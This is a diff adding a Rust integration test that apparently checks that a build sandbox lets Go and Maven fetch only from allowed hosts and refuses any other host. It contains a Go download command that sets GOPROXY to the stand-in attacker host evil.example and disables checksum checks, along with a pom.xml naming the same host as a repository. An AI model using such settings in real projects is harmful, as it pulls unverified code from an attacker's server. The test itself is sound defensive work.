@@ -330,6 +330,34 @@ async fn a_rust_repository_cannot_extend_the_list() {
     refuses("rust", &[("cargo fetch", tree, &format!("{NO_PROXY_THERE} cargo fetch"), "response 403")]).await;
 }
 
+/// Their indexes cannot be reached from everywhere, so what is shown is where they would go, and that elsewhere is refused.
+#[tokio::test(flavor = "multi_thread")]
+async fn go_and_maven_say_where_they_fetch_from_and_reach_nothing_else() {
+    let module = "module x\n\ngo 1.20\n\nrequire example.org/absent v1.0.0\n";
+    let pom = "<project><modelVersion>4.0.0</modelVersion><groupId>x</groupId><artifactId>x</artifactId>\
+               <version>1</version><repositories><repository><id>evil</id><url>https://evil.example/maven</url>\
+               </repository></repositories><dependencies><dependency><groupId>no.such</groupId>\
+               <artifactId>absent</artifactId><version>1</version></dependency></dependencies></project>";
+    let go = "GOFLAGS=-mod=mod GOPROXY=https://evil.example GONOSUMDB='*' go mod download";
+    for (image, manager, file, command, control) in [
+        ("go", "go", ("go.mod", module), go, format!("{NO_PROXY_THERE} {go}")),
+        ("java", "mvn", ("pom.xml", pom), "mvn compile", "mvn --offline compile".to_owned()),
+    ] {
+        let Some(house) = House::open(image).await else { return };
+        let (setup, tar) = house.setup(&["true"], &[file]);
+        let told = std::sync::Mutex::new(Vec::new());
+        let progress = |line: &str| told.lock().unwrap().push(line.to_owned());
+        let done = house.launcher.set_up(&setup, tar, &progress, &mut Output::default()).await.unwrap();
+        house.docker.remove_image(&done.image.digest, Some(force()), None).await.unwrap();
+        let told = told.into_inner().unwrap();
+        let hosts =
+            told.iter().find_map(|line| line.strip_prefix(&format!("{manager} fetches from ")).map(str::to_owned));
+        let hosts = hosts.unwrap_or_else(|| panic!("{told:?}"));
+        assert!(hosts.split(", ").all(|host| host.ends_with(":443")) && !hosts.contains("evil"), "{hosts}");
+        refuses(image, &[(command, &[file], &control, "evil.example")]).await;
+    }
+}
+
 #[tokio::test(flavor = "multi_thread")]
 async fn every_way_out_but_the_list_is_refused_in_under_a_second() {
     let Some(house) = House::open("python").await else { return };
